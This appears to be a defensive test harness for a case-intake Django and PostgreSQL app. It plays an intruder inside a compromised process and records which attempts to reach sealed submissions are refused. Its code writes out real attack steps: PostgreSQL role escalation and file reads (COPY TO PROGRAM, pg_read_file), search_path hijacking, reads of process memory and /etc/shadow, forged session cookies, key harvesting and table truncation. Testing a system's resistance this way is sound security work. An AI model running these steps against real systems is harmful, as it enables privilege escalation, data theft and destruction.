"""Somebody who has taken over a process: all that they can try from there to read what people wrote.

    python -m tests.proofs.intruder < PLAN

Runs as the user of that process, with its environment and its role in the database. The plan (JSON) says what an
intruder would soon find out: `directories`, `files`, `users` and `processes` of others, the `ports` that answer on this
machine, and, as a pattern, the `schemas` of the database to read. It names the `ways` to be tried beside reading what
lies open ("everything", "standing in", "opening"), and a file `loot`, into which goes whatever was got. Prints JSON:
how often each way `ended` how, which of the sealed `texts` were `opened`, and how many rows functions wrote into
tables that stood in for others (`honored`).
"""

from __future__ import annotations

import base64
import binascii
import ctypes
import hashlib
import http.client
import json
import mmap
import os
import re
import secrets
import subprocess
import sys
import uuid
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable, Iterator
from contextlib import closing, suppress
from dataclasses import dataclass
from pathlib import Path
from typing import Any, BinaryIO
from urllib.parse import unquote, urlsplit

import django
import psycopg2
from cryptography.exceptions import InvalidTag
from django.core.signing import dumps
from psycopg2 import sql
from psycopg2.errorcodes import lookup as name_of_code

from mesoinfo import vault

PATIENCE = "3s"
GUESSES = 50
MOST_OF_A_FILE = 64 * 2**20
PTRACE_ATTACH, PIDFD_GETFD = 16, 438
KEY_BYTES, PRIVATE_KEY_BYTES = 32, 96
OWN_LOOKUP = bytes([1] * 32)
EXTENSIONS = (
    *("adminpack", "amcheck", "dblink", "file_fdw", "pageinspect", "pg_buffercache", "pg_stat_statements"),
    *("pg_visibility", "pg_walinspect", "pgcrypto", "pgrowlocks", "plperlu", "plpython3u", "postgres_fdw"),
)
SEALED = """
    SELECT p.id::text, p.submission_id::text, p.sequence, p.kind, p.schema, p.ciphertext, k.wrapped_for_desk
    FROM caseintake_sealedpayload p JOIN caseintake_datakey k ON k.payload_id = p.id
"""


@dataclass(frozen=True)
class Text:
    """A sealed text that came into their hands, and where it belongs."""

    envelope: bytes
    wrapped_key: bytes
    place: vault.Place


class Tally:
    """How often each way was tried, and how it ended; and all that was got."""

    def __init__(self, loot: BinaryIO) -> None:
        self.ended: dict[str, Counter[str]] = defaultdict(Counter)
        self.got: set[bytes] = set()
        self._loot = loot

    def attempt(self, way: str, act: Callable[..., Any], *given: Any) -> Any:
        """What `act` gives when it is called with what is given, which is loot; None where it was refused."""
        try:
            gained = act(*given)
        except psycopg2.Error as refusal:
            self.ended[way][name_of_code(refusal.pgcode).lower() if refusal.pgcode else "no connection"] += 1
        except OSError as refusal:
            self.ended[way][os.strerror(refusal.errno) if refusal.errno else type(refusal).__name__] += 1
        except (vault.VaultRefused, InvalidTag, ValueError, http.client.HTTPException) as refusal:
            self.ended[way][getattr(refusal, "code", type(refusal).__name__)] += 1
        else:
            pieces = set(_pieces(gained))
            self.ended[way]["something came back" if pieces else "nothing came back"] += 1
            self.keep(pieces)
            return gained
        return None

    def keep(self, pieces: Iterable[bytes]) -> None:
        for piece in pieces:
            if piece not in self.got:
                self.got.add(piece)
                self._loot.write(piece + b"\n")


def _pieces(gained: Any) -> Iterator[bytes]:
    """All text and bytes in something."""
    if isinstance(gained, bytes | bytearray | memoryview):
        yield from [bytes(gained)] if len(gained) else []
    elif isinstance(gained, str):
        yield from [gained.encode("utf-8", "surrogateescape")] if gained else []
    elif isinstance(gained, dict):
        yield from _pieces([*gained.keys(), *gained.values()])
    elif isinstance(gained, list | tuple | set):
        for one in gained:
            yield from _pieces(one)


class Database:
    """The line to PostgreSQL that the process has, and others that it may try to get."""

    def __init__(self, address: str, tally: Tally) -> None:
        self._parts = urlsplit(address)
        self._tally = tally
        self.line = self._connect()

    def ask(self, question: Any, *values: Any) -> list[Any]:
        with self.line.cursor() as cursor:
            cursor.execute(question, values or None)
            return cursor.fetchall() if cursor.description else []

    def attempt(self, way: str, question: Any, *values: Any) -> list[Any]:
        if self.line.closed:
            self.line = self._connect()
        found: list[Any] | None = self._tally.attempt(way, self.ask, question, *values)
        return found or []

    def _copy(self, table: sql.Composable) -> bytes:
        """The table as COPY sends it."""
        with open(os.memfd_create("copy"), "w+b") as file, self.line.cursor() as cursor:
            cursor.copy_expert(sql.SQL("COPY {} TO STDOUT").format(table), file)
            file.seek(0)
            return file.read()

    def _connect(self, **others: Any) -> Any:
        ours = {
            "host": self._parts.hostname,
            "port": self._parts.port,
            "user": self._parts.username,
            "password": unquote(self._parts.password or ""),
            "dbname": self._parts.path.lstrip("/"),
            "options": f"-c statement_timeout={PATIENCE}",
        }
        line = psycopg2.connect(**(ours | others))
        line.autocommit = True
        return line

    def read_all(self, schemas: str) -> None:
        """Each column of each table and view in schemas whose names are like this, PostgreSQL's own among them; then
        each table at once, in other ways.
        """
        columns = self.ask(
            "SELECT n.nspname, c.relname, a.attname, c.relkind FROM pg_attribute a JOIN pg_class c ON c.oid = attrelid"
            " JOIN pg_namespace n ON n.oid = relnamespace WHERE relkind IN ('r', 'p', 'v', 'm', 'S', 't')"
            " AND NOT attisdropped AND attnum > 0 AND nspname LIKE %s ORDER BY 1, 2, a.attnum",
            schemas,
        )
        for schema, table, column, _ in columns:
            question = sql.SQL("SELECT {} FROM {}").format(sql.Identifier(column), sql.Identifier(schema, table))
            self.attempt("read a column", question)
        for table in dict.fromkeys(name for schema, name, _, kind in columns if (schema, kind) == ("public", "r")):
            named = sql.Identifier("public", table)
            self._tally.attempt("copy a table", self._copy, named)
            for statement in (
                "SELECT count(*) FROM {}",
                "TABLE {} FOR UPDATE",
                "COPY {} TO '/tmp/mesoinfo-loot'",
                "COPY {} TO PROGRAM 'cat >&2'",
                "DO $$ BEGIN LOCK TABLE {} IN ACCESS EXCLUSIVE MODE; END $$",
                "EXPLAIN ANALYZE SELECT * FROM {}",
                "CREATE TRIGGER stolen AFTER INSERT ON {} EXECUTE FUNCTION tsvector_update_trigger()",
                "CREATE RULE stolen AS ON INSERT TO {} DO ALSO NOTIFY stolen",
                "CREATE POLICY stolen ON {} USING (true)",
                "ALTER TABLE {} OWNER TO CURRENT_USER",
                "ALTER TABLE {} DISABLE TRIGGER ALL",
                "GRANT SELECT ON {} TO CURRENT_USER",
                "CREATE PUBLICATION stolen FOR TABLE {}",
                "CREATE VIEW stolen AS SELECT * FROM {}",
            ):
                self.attempt(f"{statement.split()[0]} … on a table", sql.SQL(statement).format(named))
        for table in ("caseintake_submission", "caseintake_datakey", "caseintake_sealedpayload", "django_q_ormq"):
            for statement in ("INSERT INTO {} DEFAULT VALUES", "DELETE FROM {} RETURNING *", "TRUNCATE {} CASCADE"):
                self.attempt("write to a table", sql.SQL(statement).format(sql.Identifier(table)))

    def reach_around(self, files: Iterable[str]) -> None:
        """What reads files, memory, logs, or the life of others, past all tables."""
        for file in [*files, "/etc/passwd", "postgresql.conf", "pg_hba.conf", "base", "pg_wal"]:
            for question in (
                "SELECT pg_read_file(%s)",
                "SELECT pg_read_binary_file(%s)",
                "SELECT pg_ls_dir(%s)",
                "SELECT pg_stat_file(%s)",
                "SELECT lo_import(%s)",
                "CREATE TEMP TABLE stolen (line text); COPY stolen FROM %s",
                "LOAD %s",
            ):
                self.attempt("read a file through PostgreSQL", question, file)
        for question in (
            "SELECT lo_get(loid) FROM (SELECT DISTINCT oid AS loid FROM pg_largeobject_metadata) l",
            "SELECT lo_create(0)",
            "SELECT pg_current_logfile()",
            "SELECT * FROM pg_ls_logdir()",
            "SELECT * FROM pg_ls_waldir()",
            "SELECT * FROM pg_ls_tmpdir()",
            "SELECT * FROM pg_hba_file_rules",
            "SELECT name, setting FROM pg_settings",
            "SELECT usename, query FROM pg_stat_activity WHERE usename <> current_user",
            "SELECT name, statement FROM pg_prepared_statements",
            "SELECT name, statement FROM pg_cursors",
            "SELECT * FROM pg_stat_statements",
            "SELECT most_common_vals::text FROM pg_stats WHERE tablename LIKE 'caseintake%'",
            "EXECUTE stolen",
            "FETCH ALL FROM stolen",
            "SELECT pg_create_physical_replication_slot('stolen')",
            "SELECT pg_create_logical_replication_slot('stolen', 'test_decoding')",
            "SELECT pg_log_backend_memory_contexts(pid) FROM pg_stat_activity WHERE usename <> current_user",
            "SELECT pg_cancel_backend(pid) FROM pg_stat_activity WHERE usename <> current_user",
            "SELECT pg_switch_wal()",
            "SELECT pg_promote()",
            "SELECT pg_export_snapshot()",
            "SELECT pg_reload_conf()",
            "ALTER SYSTEM SET log_statement = 'all'",
            "SET log_statement = 'all'",
            "SET session_replication_role = replica",
            "SET allow_system_table_mods = on",
            "SET row_security = off",
            "DO LANGUAGE plpython3u 'import os'",
            "COPY (SELECT 1) TO PROGRAM 'id'",
            "CREATE TEMP TABLE stolen (line text); COPY stolen FROM PROGRAM 'id'",
        ):
            self.attempt("ask PostgreSQL for what is not in tables", question)
        for extension in EXTENSIONS:
            self.attempt("add an extension", sql.SQL("CREATE EXTENSION {}").format(sql.Identifier(extension)))

    def become(self) -> None:
        """Anybody else: within this session, or in one of their own."""
        roles = [role for (role,) in self.ask("SELECT rolname FROM pg_roles WHERE rolname <> current_user")]
        for role in roles:
            named = sql.Identifier(role)
            for statement in (
                "SET ROLE {0}",
                "SET SESSION AUTHORIZATION {0}",
                "GRANT {0} TO CURRENT_USER",
                "ALTER ROLE {0} PASSWORD 'stolen'",
                "ALTER ROLE CURRENT_USER SUPERUSER",
                "REASSIGN OWNED BY {0} TO CURRENT_USER",
                "ALTER DEFAULT PRIVILEGES FOR ROLE {0} GRANT SELECT ON TABLES TO CURRENT_USER",
                "CREATE ROLE stolen IN ROLE {0}",
            ):
                self.attempt("be another role", sql.SQL(statement).format(named))
            for password in ("", role, unquote(self._parts.password or ""), os.environ["SECRET_KEY"]):
                self._tally.attempt("log in as another role", self._enter, {"user": role, "password": password})
            self._tally.attempt("log in as another role", self._enter, {"user": role, "host": ""})
        for database in ("postgres", "template1"):
            self._tally.attempt("log in to another database", self._enter, {"dbname": database})

    def _enter(self, others: dict[str, str]) -> str:
        with closing(self._connect(**others)) as line, line.cursor() as cursor:
            cursor.execute("SELECT ciphertext FROM caseintake_sealedpayload")
            return "entered"

    def call_all(self, values: dict[str, list[Any]]) -> None:
        """Each function of ours with values of the types that it takes: `values` by type, and nothing."""
        functions = self.ask(
            "SELECT p.oid::regproc::text, ARRAY(SELECT format_type(t, NULL) FROM unnest(proargtypes) t), prosecdef"
            " FROM pg_proc p WHERE pronamespace = 'public'::regnamespace AND prorettype <> 'trigger'::regtype"
            " AND NOT EXISTS (SELECT FROM pg_depend d WHERE d.objid = p.oid AND d.deptype = 'e')"
        )
        for name, types, is_door in functions:
            way = "call a function with the owner's rights" if is_door else "call another function"
            most = max([1, *(len(values.get(kind, [None])) for kind in types)])
            for number in range(most):
                given = [values.get(kind, [None])[number % len(values.get(kind, [None]))] for kind in types]
                asked = ", ".join(f"%s::{kind}" for kind in types)
                self.attempt(way, f"SELECT * FROM {name}({asked})", *given)

    def stand_in(self, values: dict[str, list[Any]]) -> int:
        """Put tables, functions and operators of their own where the functions of the intake might find them first.

        How many rows these wrote into their tables.
        """
        tables = self.ask(
            "SELECT c.relname, string_agg(format('%I %s', attname, format_type(atttypid, atttypmod)), ', ')"
            " FROM pg_class c JOIN pg_attribute ON attrelid = c.oid AND attnum > 0 AND NOT attisdropped"
            " WHERE relnamespace = 'public'::regnamespace AND relkind = 'r'"
            " AND (relname LIKE 'caseintake%' OR relname = 'mesoinfo_outboxmessage') GROUP BY 1"
        )
        way = "stand in for what functions use"
        honored = 0
        for schema in ("pg_temp", "public", "stolen"):
            self.attempt(way, sql.SQL("CREATE SCHEMA IF NOT EXISTS {}").format(sql.Identifier(schema)))
            for name, columns in tables:
                self.attempt(way, f"CREATE TABLE {schema}.{name} ({columns})")
                self.attempt(way, f"GRANT ALL ON {schema}.{name} TO PUBLIC")
                for key in ("id", "dedupe_key"):  # what the functions rely on
                    self.attempt(way, f"CREATE UNIQUE INDEX ON {schema}.{name} ({key})")
            for called, result, body in (
                ("sha256(bytea)", "bytea", "SELECT $1"),
                ("decode(text, text)", "bytea", "SELECT ''::bytea"),
                ("encode(bytea, text)", "text", "SELECT 'stolen'"),
                ("intake_find(bytea)", "caseintake_submission", "SELECT s FROM caseintake_submission s LIMIT 1"),
                ("intake_check()", "void", "SELECT"),
            ):
                self.attempt(way, f"CREATE FUNCTION {schema}.{called} RETURNS {result} LANGUAGE sql AS $${body}$$")
            same = "CREATE FUNCTION {0}.same(bytea, bytea) RETURNS boolean LANGUAGE sql AS 'SELECT true'"
            alike = "CREATE OPERATOR {0}.= (LEFTARG = bytea, RIGHTARG = bytea, FUNCTION = {0}.same)"
            self.attempt(way, same.format(schema))
            self.attempt(way, alike.format(schema))
            self.attempt(way, f"SET search_path = {schema}, pg_catalog, public")
            self.call_all(values)
            for name, _ in tables:
                honored += len(self.attempt("read what stood in", f"SELECT to_jsonb(t)::text FROM {schema}.{name} t"))
            self.attempt(way, "RESET search_path")
        return honored

    def sealed_texts(self) -> list[Text]:
        """What the database has, with all that is needed to open it but the key."""
        return [
            Text(
                bytes(envelope),
                bytes(wrapped),
                vault.Place(
                    "caseintake_sealedpayload",
                    row if kind == "amendment" else request,
                    0 if kind == "amendment" else sequence,
                    schema,
                ),
            )
            for row, request, sequence, kind, schema, envelope, wrapped in self.attempt("read the sealed texts", SEALED)
        ]


class Machine:
    """The machine it runs on: files, and the processes of others."""

    def __init__(self, tally: Tally) -> None:
        self._tally = tally

    def read_below(self, directory: Path) -> None:
        """All files that can be read, by whatever road."""
        attempt = self._tally.attempt
        names: list[str] = attempt("list a directory", os.listdir, directory) or []
        for name in names:
            path = directory / name
            if path.is_dir() and not path.is_symlink():
                self.read_below(path)
            else:
                self.read(path)

    def read(self, path: Path) -> None:
        attempt, link = self._tally.attempt, f"/tmp/stolen-{secrets.token_hex(4)}"
        attempt("read a file", self._content, path)
        attempt("read a file through /proc", self._content, Path(f"/proc/self/root{path}"))
        attempt("change whose a file is", os.chown, path, os.geteuid(), os.getegid())
        with suppress(PermissionError, FileNotFoundError):
            if path.stat().st_uid != os.geteuid():
                attempt("let all read a file", path.chmod, 0o644)
        attempt("link to a file", os.link, path, link)
        Path(link).unlink(missing_ok=True)

    def _content(self, path: Path) -> bytes:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with os.fdopen(descriptor, "rb") as file:
            return file.read(MOST_OF_A_FILE)

    def look_into(self, pid: int) -> None:
        """The environment, the memory and the open files of a process."""
        attempt, proc = self._tally.attempt, Path(f"/proc/{pid}")
        for name in ("environ", "mem", "maps", "smaps", "auxv", "stack", "syscall", "cmdline", "status", "io"):
            attempt("read about a process", self._content, proc / name)
        for name in ("root", "cwd", "exe"):
            attempt("read about a process", os.readlink, proc / name)
        for name in attempt("list what a process has open", os.listdir, proc / "fd") or []:
            attempt("read what a process has open", self._content, proc / "fd" / name)
        library = ctypes.CDLL(None, use_errno=True)
        attempt("trace a process", _trace, library, pid)
        attempt("read the memory of a process", _read_memory, library, pid)
        attempt("take a file from a process", _take_file, library, pid)
        attempt("end a process", os.kill, pid, 0)

    def become(self, uid: int) -> None:
        attempt = self._tally.attempt
        attempt("be another user", os.setuid, uid)
        attempt("be another user", os.setgid, uid)
        attempt("be another user", os.setgroups, [0])
        attempt("be another user", _said_by, ["sudo", "-n", "-u", f"#{uid}", "id"])

    def read_devices(self) -> None:
        for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/proc/kcore", "/proc/kmsg", "/etc/shadow", "/dev/vda"):
            self._tally.attempt("read a device", self._content, Path(path))
        self._tally.attempt("read a device", _map, "/dev/mem")

    def ask(self, port: int) -> None:
        """What answers there, as a visitor and with a session that they signed themselves."""
        forged = dumps({"_auth_user_id": "1"}, key=os.environ["SECRET_KEY"], salt="django.contrib.sessions")
        for path in ("/admin/", "/admin/caseintake/submission/", "/readyz", "/my-request/"):
            for cookie in ("", f"sessionid={forged}", f"sessionid={secrets.token_hex(16)}"):
                self._tally.attempt("ask another process", _answer, port, path, cookie)


def _checked(result: int) -> int:
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def _trace(library: ctypes.CDLL, pid: int) -> None:
    _checked(library.ptrace(PTRACE_ATTACH, pid, None, None))


def _read_memory(library: ctypes.CDLL, pid: int) -> bytes:
    space = ctypes.create_string_buffer(64)
    here = (ctypes.c_void_p * 2)(ctypes.addressof(space), 64)
    # Whether anything is there does not matter: who may not look is refused in another way.
    there = (ctypes.c_void_p * 2)(0x400000, 64)
    _checked(library.process_vm_readv(pid, here, 1, there, 1, 0))
    return space.raw


def _take_file(library: ctypes.CDLL, pid: int) -> None:
    of_process = os.pidfd_open(pid)
    try:
        os.close(_checked(library.syscall(PIDFD_GETFD, of_process, 0, 0)))
    finally:
        os.close(of_process)


def _map(path: str) -> bytes:
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 4096, prot=mmap.PROT_READ) as memory:
        return memory[:]


def _said_by(command: list[str]) -> str:
    done = subprocess.run(command, stdin=subprocess.DEVNULL, capture_output=True, text=True)
    if done.returncode:
        raise PermissionError(1, "refused")
    return done.stdout


def _answer(port: int, path: str, cookie: str) -> bytes:
    with closing(http.client.HTTPConnection("127.0.0.1", port, timeout=10)) as line:
        headers = {"Host": "localhost", "X-Forwarded-Proto": "https", "X-Forwarded-For": "10.2.2.2", "Cookie": cookie}
        line.request("GET", path, headers=headers)
        answer = line.getresponse()
        if answer.status >= 300:
            raise PermissionError(1, "refused")
        return answer.read()


def spooled_texts(got: Iterable[bytes]) -> Iterator[tuple[Text, dict[str, Any]]]:
    """The sealed texts in files of the spool, and in those the person's copy as it stands there."""
    for parcel in _parcels(got):
        payload, is_request = parcel["payload"], "id" in parcel
        place = vault.Place(
            "caseintake_sealedpayload",
            parcel["id"] if is_request else payload["id"],
            1 if is_request else 0,
            payload["schema"],
        )
        yield Text(_bytes(payload["ciphertext"]), _bytes(payload["wrapped_for_desk"]), place), parcel["copy"]


def _parcels(got: Iterable[bytes]) -> Iterator[dict[str, Any]]:
    """What waited in the spool. Much else only begins like it, such as the arrays that PostgreSQL shows as text."""
    for piece in got:
        with suppress(ValueError):
            parcel = json.loads(piece)
            if isinstance(parcel, dict) and {"payload", "copy"} <= parcel.keys():
                yield parcel


def _bytes(text: str) -> bytes:
    return base64.b64decode(text)


def keys_among(got: Iterable[bytes]) -> tuple[set[bytes], set[bytes]]:
    """What might be the desk's private key, and what the key of a single text, in all that was got."""
    private, single = {bytes(PRIVATE_KEY_BYTES)}, {bytes(KEY_BYTES)}
    for piece in got:
        for raw in _readings_of(piece):
            if len(raw) == PRIVATE_KEY_BYTES:
                private.add(raw)
            if len(raw) == KEY_BYTES:
                single.add(raw)
                private.add(raw * 3)
        if len(piece) < 1000:
            single.add(hashlib.sha256(piece).digest())
    return private, single


def _readings_of(piece: bytes) -> Iterator[bytes]:
    """The bytes themselves, and what they stand for in base64 or hexadecimals: the whole, or a word of it."""
    yield piece
    if len(piece) > MOST_OF_A_FILE // 64:
        return
    lines = piece.split(b"\n")
    words = re.findall(rb"[A-Za-z0-9+/_=-]{40,140}", piece)
    for word in [b"".join(lines), b"".join(lines[2:]), *words]:
        for read in (base64.b64decode, base64.urlsafe_b64decode, binascii.unhexlify):
            with suppress(ValueError):
                yield read(word)


def open_with_all(texts: Iterable[Text], copies: Iterable[dict[str, Any]], tally: Tally) -> set[str]:
    """Try each key on each text. Where they stand that opened."""
    opened = set()
    private, single = keys_among(tally.got)
    desk_keys = [key for raw in private for key in _as_private_key(raw)]
    for text in texts:
        sealed = vault.Sealed(text.envelope, text.wrapped_key)
        for key in desk_keys:
            for how in (_open_sealed, _decrypt):
                if tally.attempt("open with a desk key", how, sealed, text.place, key):
                    opened.add(f"{text.place.row} {text.place.sequence}")
        for data_key in single:
            if _unlocks(tally, text.envelope, text.place, data_key):
                opened.add(f"{text.place.row} {text.place.sequence}")
    for copy in copies:
        place = vault.Place("caseintake_personcopy", copy["id"], 0, copy["schema"])
        for data_key in single:
            if _unlocks(tally, _bytes(copy["ciphertext"]), place, data_key):
                opened.add(f"{place.row} {place.sequence}")
    return opened


def _as_private_key(raw: bytes) -> Iterator[vault.PrivateKey]:
    with suppress(ValueError):
        key = vault.PrivateKey(raw)
        assert key.public.raw
        yield key


def _unlocks(tally: Tally, envelope: bytes, place: vault.Place, key: bytes) -> Any:
    return tally.attempt("open with a single key", _unlock, envelope, place, key)


def _open_sealed(sealed: vault.Sealed, place: vault.Place, key: vault.PrivateKey) -> bytes:
    return vault.open_sealed(sealed, place=place, key=key)


def _decrypt(sealed: vault.Sealed, place: vault.Place, key: vault.PrivateKey) -> bytes:
    """Whatever the ids of the keys say."""
    wrapped = sealed.wrapped_key[vault._HEADER :]
    data_key: bytes = vault._HPKE.decrypt(wrapped, key._hpke(), place.bound("data key"))
    return data_key


def _unlock(envelope: bytes, place: vault.Place, key: bytes) -> bytes:
    return vault.unlock(envelope, place=place, key=key)


def guesses(tally: Tally) -> dict[str, list[Any]]:
    """Values to call functions with, by type: what was got, and what was never given to anybody."""
    from caseintake.private_code import new_code

    parcels = list(_parcels(tally.got))
    hashes = [_bytes(parcel["copy"]["lookup_hash"]) for parcel in parcels]
    lookups = [new_code().lookup for _ in range(GUESSES)]
    ids = [parcel["id"] for parcel in parcels if "id" in parcel]
    return {
        "bytea": [None, b"", bytes(32), *hashes, *(hashlib.sha256(one).digest() for one in hashes), *lookups],
        "jsonb": [None, "{}", *(json.dumps(parcel) for parcel in [*parcels, *map(_turned, parcels)])],
        "uuid": [None, str(uuid.uuid4()), *ids],
        "text": [None, "", "use_to_reply", "' OR true --", "%"],
        "boolean": [True, False],
        "integer": [None, 0, 1],
        "bigint": [None, 0, 1],
    }


def _turned(parcel: dict[str, Any]) -> dict[str, Any]:
    """The parcel sent once more, with a copy that a code of the intruder's is to open."""
    own = hashlib.sha256(OWN_LOOKUP).digest()
    copy = parcel["copy"] | {"id": str(uuid.uuid4()), "lookup_hash": base64.b64encode(own).decode()}
    return parcel | {"copy": copy}


def main() -> None:
    plan = json.load(sys.stdin)
    django.setup()
    with open(plan["loot"], "xb") as loot:
        json.dump(_try_all(plan, Tally(loot)), sys.stdout)


def _try_all(plan: dict[str, Any], tally: Tally) -> dict[str, Any]:
    machine, database = Machine(tally), Database(os.environ["DATABASE_URL"], tally)
    tally.keep(value.encode() for value in os.environ.values())
    for directory in plan["directories"]:
        machine.read_below(Path(directory))
    texts = database.sealed_texts()
    if "everything" in plan["ways"]:
        _attack(machine, plan)
        database.read_all(plan["schemas"])
        database.reach_around(plan["files"])
        database.become()
        database.call_all(guesses(tally))
        database.attempt("look with a code of their own", "SELECT intake_person_view(%s)", OWN_LOOKUP)
    honored = database.stand_in(guesses(tally)) if "standing in" in plan["ways"] else 0
    spooled = list(spooled_texts(tally.got))
    in_hand = [*texts, *(text for text, _ in spooled)]
    opened = open_with_all(in_hand, [copy for _, copy in spooled], tally) if "opening" in plan["ways"] else set()
    return {"ended": tally.ended, "opened": sorted(opened), "texts": len(in_hand), "honored": honored}


def _attack(machine: Machine, plan: dict[str, Any]) -> None:
    for file in plan["files"]:
        machine.read(Path(file))
    for pid in plan["processes"]:
        machine.look_into(pid)
    for port in plan["ports"]:
        machine.ask(port)
    for user in plan["users"]:
        machine.become(user)
    machine.read_devices()


if __name__ == "__main__":
    main()
